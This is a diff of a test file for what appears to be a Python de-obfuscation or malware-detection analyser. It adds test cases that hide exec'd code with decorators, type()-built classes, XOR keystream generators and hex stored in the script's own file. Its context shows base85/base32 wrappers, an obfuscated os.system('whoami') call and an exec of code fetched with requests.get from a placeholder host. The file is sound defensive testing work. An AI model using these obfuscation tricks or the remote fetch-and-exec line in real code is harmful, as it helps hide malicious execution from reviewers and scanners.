@@ -42,6 +42,10 @@ getattr(__import__("o" + "s"), "sys" + "tem")("who" "ami")`;
     ['base85', `import base64\nexec(base64.b85decode("aB^vGbSNTkaAj^~WFTl|a%CbZ"))`],
     ['base32', `import base64\nexec(base64.b32decode("OBZGS3TUFARG64DFNZSWIIDIMVZGKIRJ"))`],
     ['ascii85', `import base64\nexec(base64.a85decode("E,oZ1F=8>OE+NouA0>PsEb-FD"))`],
+    ['a decorator', `def runs(f):\n  return lambda *a: exec(f(*a))\n@runs\ndef join(codes):\n  return "".join(chr(c) for c in codes)\njoin([${[...opened].map((char) => char.charCodeAt(0)).join()}])`],
+    ['a class made by type', `A = type("A", (), {"__init__": lambda self, d: exec(d)})\nA("".join(chr(c) for c in [${[...opened].map((char) => char.charCodeAt(0)).join()}]))`],
+    ['a generator without end', `def keys():\n  k = 7\n  while True:\n    yield k\n    k = (k * 5 + 3) % 256\ng = keys()\nexec(bytes(c ^ next(g) for c in [${[...opened].map((char, i) => char.charCodeAt(0) ^ Array.from({ length: i }).reduce<number>((k) => (k * 5 + 3) % 256, 7)).join()}]))`],
+    ['its own file', `data = open(__file__).read().split("#~")[2]\nexec(bytes.fromhex(data.strip()).decode())\n#~${Buffer.from(opened).toString('hex')}\n`],
     ['a class', `class A:\n  key = 1\n  def __init__(self, d): self.d = d\n  def run(self):\n    return "".join(chr(c - self.key) for c in self.d)\nexec(A([${[...opened].map((char) => char.charCodeAt(0) + 1).join()}]).run())`],
     ['a bytearray', `b = bytearray(b"${'\\x00'.repeat(2)}")\nb.extend([${[...opened].map((char) => char.charCodeAt(0) ^ 9).join()}])\nfor i in range(len(b)):\n  b[i] ^= 9\nexec(bytes(b[2:]))`],
   ])('hands on code made by %s', (name, script) => {
@@ -65,11 +69,10 @@ def later(host, port=80):
 
   it('tells remote code, unknown code and closed formats apart', () => {
     const script = `
-import marshal, lzma, requests, base64
+import marshal, requests, base64
 exec(requests.get("http://a.example.test/x").text)
 exec(input())
-exec(marshal.loads(b"\\x00\\x01"))
-exec(lzma.decompress(base64.b64decode("AAAA")))`;
+exec(marshal.loads(b"\\x00\\x01"))`;
     expect(executed(script)[0]).toBe('requests.get("http://a.example.test/x")');
     expect(evaluatePython(script, new Budget()).notDecoded.map(({ reason }) => reason)).toEqual(expect.arrayContaining(['remoteContent', 'unknownValue', 'unsupported']));
   });
